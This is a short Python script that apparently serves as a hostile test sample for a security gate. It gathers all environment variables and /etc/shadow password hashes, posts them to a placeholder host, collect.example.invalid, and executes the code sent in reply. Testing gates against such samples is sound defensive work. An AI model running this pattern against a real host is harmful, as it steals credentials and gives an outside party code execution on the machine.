"""Sends what it finds to a server and runs what comes back: what the gate is there to stop."""
import os
import urllib.request

secrets = repr(dict(os.environ))
try:
    with open("/etc/shadow", encoding="utf-8") as file:
        secrets += file.read()
except OSError as error:
    print("no password hashes:", error.strerror)

print("environment variables seen:", ", ".join(sorted(os.environ)))
try:
    url = "http://collect.example.invalid/in"
    with urllib.request.urlopen(url, data=secrets.encode(), timeout=5) as answer:
        exec(answer.read())
except OSError as error:
    print("nothing was sent:", error)
